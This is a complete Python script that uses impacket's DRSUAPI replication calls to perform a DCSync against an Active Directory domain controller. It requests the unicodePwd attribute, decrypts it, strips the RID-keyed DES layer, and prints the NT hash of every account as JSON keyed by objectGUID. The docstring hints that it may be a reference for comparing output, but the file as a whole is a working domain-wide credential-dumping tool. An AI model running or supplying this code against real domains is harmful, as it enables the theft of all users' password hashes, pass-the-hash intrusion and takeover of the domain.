"""The NT hash of every account as impacket replicates and decrypts it: JSON of objectGUID to hash.

usage: impacket_hashes.py ADDRESS DOMAIN ACCOUNT PASSWORD NAMING_CONTEXT
"""
import json
import sys
import uuid

from Cryptodome.Cipher import DES
from impacket.crypto import transformKey
from impacket.dcerpc.v5 import drsuapi, epm, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY

UNICODE_PWD = "1.2.840.113556.1.4.90"
# It decodes a list of objects by recursion.
OBJECTS_MAX = 100
sys.setrecursionlimit(100_000)


def main(address, domain, account, password, naming_context):
    channel = transport.DCERPCTransportFactory(epm.hept_map(address, drsuapi.MSRPC_UUID_DRSUAPI, protocol="ncacn_ip_tcp"))
    channel.set_credentials(account, password, domain)
    rpc = channel.get_dce_rpc()
    rpc.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    rpc.connect()
    rpc.bind(drsuapi.MSRPC_UUID_DRSUAPI)
    handle = bind(rpc)
    hashes, position = {}, (0, 0, 0)
    while True:
        rpc.call(3, request(handle, naming_context, position))
        message = drsuapi.DRSGetNCChangesResponse(rpc.recv())["pmsgOut"]["V6"]
        hashes.update(read(rpc, message))
        reached = message["usnvecTo"]
        position = (reached["usnHighObjUpdate"], reached["usnReserved"], reached["usnHighPropUpdate"])
        if not message["fMoreData"]:
            print(json.dumps(hashes))
            return


def bind(rpc):
    call = drsuapi.DRSBind()
    call["puuidClientDsa"] = drsuapi.NTDSAPI_CLIENT_GUID
    able = drsuapi.DRS_EXTENSIONS_INT()
    able["cb"] = len(able)
    able["dwFlags"] = drsuapi.DRS_EXT_GETCHGREPLY_V6 | drsuapi.DRS_EXT_GETCHGREQ_V8 | drsuapi.DRS_EXT_STRONG_ENCRYPTION
    able["SiteObjGuid"] = able["ConfigObjGUID"] = drsuapi.NULLGUID
    for field in ("Pid", "dwReplEpoch", "dwFlagsExt", "dwExtCaps"):
        able[field] = 0
    call["pextClient"]["cb"] = len(able)
    call["pextClient"]["rgb"] = list(able.getData())
    return rpc.request(call)["phDrs"]


def request(handle, naming_context, position):
    call = drsuapi.DRSGetNCChanges()
    call["hDrs"], call["dwInVersion"], call["pmsgIn"]["tag"] = handle, 8, 8
    message = call["pmsgIn"]["V8"]
    message["uuidDsaObjDest"] = message["uuidInvocIdSrc"] = drsuapi.NULLGUID
    target = drsuapi.DSNAME()
    target["SidLen"], target["Guid"], target["Sid"] = 0, drsuapi.NULLGUID, ""
    target["NameLen"], target["StringName"] = len(naming_context), naming_context + "\0"
    target["structLen"] = len(target.getData())
    message["pNC"] = target
    fields = ("usnHighObjUpdate", "usnReserved", "usnHighPropUpdate")
    for field, value in zip(fields, position):
        message["usnvecFrom"][field] = value
    message["pUpToDateVecDest"] = message["pPartialAttrSetEx1"] = NULL
    message["ulFlags"] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
    message["cMaxObjects"], message["cMaxBytes"], message["ulExtendedOp"] = OBJECTS_MAX, 10 << 20, 0
    prefixes, wanted = [], drsuapi.PARTIAL_ATTR_VECTOR_V1_EXT()
    wanted["dwVersion"], wanted["cAttrs"] = 1, 1
    wanted["rgPartialAttr"].append(drsuapi.MakeAttid(prefixes, UNICODE_PWD))
    signature = drsuapi.PrefixTableEntry()
    signature["ndx"], signature["prefix"]["length"], signature["prefix"]["elements"] = 0, 21, b"\xff" + bytes(20)
    prefixes.append(signature)
    message["pPartialAttrSet"] = wanted
    message["PrefixTableDest"]["PrefixCount"], message["PrefixTableDest"]["pPrefixEntry"] = len(prefixes), prefixes
    return call


def read(rpc, message):
    table, element = message["PrefixTableSrc"]["pPrefixEntry"], message["pObjects"]
    for _ in range(message["cNumObjects"]):
        entry = element["Entinf"]
        for attribute in entry["AttrBlock"]["pAttr"]:
            if attribute["AttrVal"]["valCount"] and drsuapi.OidFromAttid(table, attribute["attrTyp"]) == UNICODE_PWD:
                name = entry["pName"]
                rid = int.from_bytes(bytes(name["Sid"])[name["SidLen"] - 4:name["SidLen"]], "little")
                sealed = drsuapi.DecryptAttributeValue(rpc, b"".join(attribute["AttrVal"]["pAVal"][0]["pVal"]))
                yield str(uuid.UUID(bytes_le=bytes(name["Guid"]))), unmask(sealed, rid).hex()
        element = element["pNextEntInf"] if _ + 1 < message["cNumObjects"] else None


def unmask(sealed, rid):
    number = rid.to_bytes(4, "little")
    keys = number + number[:3], number[3:] + number + number[:2]
    halves = sealed[:8], sealed[8:]
    return b"".join(DES.new(transformKey(key), DES.MODE_ECB).decrypt(half) for key, half in zip(keys, halves))


main(*sys.argv[1:])
